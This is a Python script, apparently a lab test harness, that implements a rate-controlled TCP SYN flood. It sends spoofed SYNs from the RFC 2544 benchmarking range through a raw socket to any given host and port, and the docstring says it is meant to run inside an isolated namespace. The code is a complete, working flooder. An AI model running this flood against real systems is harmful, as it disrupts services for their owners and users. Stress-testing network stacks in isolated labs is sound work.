"""A spoofed SYN flood from Linux's side: run it inside a namespace the caller made.

    python syn_flooder.py DST PORT RATE SECONDS [--seed N] [--sources N]

Sends TCP SYNs to DST:PORT through a raw IPv4 socket (``IPPROTO_RAW``, so the kernel takes
our IP header as it is, filling in only the checksum and length), each from a spoofed source
in 198.18.0.0/15 (RFC 2544's benchmarking range, never routed anywhere: the caller's
namespace holds only its own TAP, and the victim's SYN-ACKs to those sources come back to a
Linux that does not forward them). The SYNs carry the options Linux's own do (MSS 1460,
window scale 7, SACK-permitted, timestamps), so the victim answers each with a full SYN
cookie. RATE is SYNs per second (0: as fast as the socket takes them), paced in batches of a
millisecond's worth. It prints ``flooding`` when its SYNs are built and the flood begins, and
when SECONDS have passed (or on SIGTERM) one JSON line:
``{"sent": N, "errors": N, "seconds": S, "rate": N/S}``.
"""

from __future__ import annotations

import argparse
import json
import random
import signal
import socket
import sys
import time

from layers.wire import PROTO_TCP, build_ipv4_header, ip4
from layers.wire.tcp import TCP_SYN, TCPHeader, TCPOptions

SPOOF_BASE = ip4("198.18.0.0")
SPOOF_SPAN = 1 << 17  # 198.18.0.0/15


def syn_packets(dst: int, port: int, count: int, seed: int) -> list[bytes]:
    """``count`` distinct spoofed SYNs (source address, port, ISN and TSval all random)."""
    rng = random.Random(seed)
    out = []
    for _ in range(count):
        src = SPOOF_BASE + rng.randrange(SPOOF_SPAN)
        options = TCPOptions(mss=1460, wscale=7, sack_permitted=True,
                             timestamp=(rng.getrandbits(32), 0))
        seg = TCPHeader(rng.randrange(1024, 65536), port, rng.getrandbits(32), 0, TCP_SYN,
                        64240, options=options).to_bytes(src=src, dst=dst)
        out.append(bytes(build_ipv4_header(src, dst, PROTO_TCP, len(seg),
                                           ident=rng.getrandbits(16)) + seg))
    return out


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("dst")
    ap.add_argument("port", type=int)
    ap.add_argument("rate", type=float, help="SYNs per second, 0 for as fast as possible")
    ap.add_argument("seconds", type=float)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--sources", type=int, default=8192,
                    help="distinct SYNs prepared, then sent round-robin")
    args = ap.parse_args(argv)
    packets = syn_packets(ip4(args.dst), args.port, args.sources, args.seed)
    dst = (args.dst, 0)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    stop = False

    def on_term(signum: int, frame: object) -> None:
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_term)
    print("flooding", flush=True)
    batch = max(1, int(args.rate / 1000)) if args.rate > 0 else 64
    sendto = sock.sendto
    n = len(packets)
    sent = errors = i = 0
    start = time.perf_counter()
    end = start + args.seconds
    now = start
    while not stop and now < end:
        for _ in range(batch):
            try:
                sendto(packets[i], dst)
                sent += 1
            except OSError:  # ENOBUFS: a full queue on the way out
                errors += 1
            i = i + 1 if i + 1 < n else 0
        now = time.perf_counter()
        if args.rate > 0:
            ahead = start + (sent + errors) / args.rate - now
            if ahead > 0:
                time.sleep(ahead)
                now = time.perf_counter()
    elapsed = max(now - start, 1e-9)
    print(json.dumps({"sent": sent, "errors": errors, "seconds": round(elapsed, 3),
                      "rate": round(sent / elapsed)}), flush=True)
    sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
